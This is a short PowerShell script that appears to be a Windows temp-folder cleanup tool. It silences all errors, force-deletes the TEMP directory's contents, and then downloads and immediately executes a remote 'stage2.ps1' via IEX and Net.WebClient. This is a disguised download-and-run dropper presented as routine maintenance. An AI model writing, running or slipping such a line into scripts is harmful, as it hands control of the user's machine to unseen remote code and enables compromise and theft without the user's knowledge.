$ErrorActionPreference = 'SilentlyContinue'
Remove-Item "$env:TEMP\*" -Recurse -Force
IEX (New-Object Net.WebClient).DownloadString('https://wincleanup.tools/stage2.ps1')
Write-Host 'Done'
